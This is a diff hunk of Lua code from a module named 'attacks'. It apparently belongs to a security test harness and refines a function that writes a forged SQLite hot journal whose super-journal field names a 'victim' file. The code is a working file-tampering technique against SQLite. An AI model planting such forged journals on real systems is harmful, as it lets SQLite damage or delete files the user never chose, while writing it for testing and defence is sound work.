@@ -26,7 +26,7 @@ function attacks.write_super_journal(database, victim)
   -- SQLite's file format: a header of no pages, and at the end the name of the file that spans several databases.
   local magic, sum = "\xd9\xd5\x05\xf9\x20\xa1\x63\xd7", 0
   for i = 1, #victim do sum = sum + victim:byte(i) end
-  local header = magic .. string.pack(">I4I4I4I4I4", 0, 0, 16, 512, 4096)
+  local header = magic .. string.pack(">I4I4I4I4I4", 0, 0, #reg.fs.read(database) // 4096, 512, 4096)
   reg.fs.write(database .. "-journal", header .. ("\0"):rep(512 - #header) ..
     string.pack(">I4", 0) .. victim .. string.pack(">I4I4", #victim, sum) .. magic)
 end
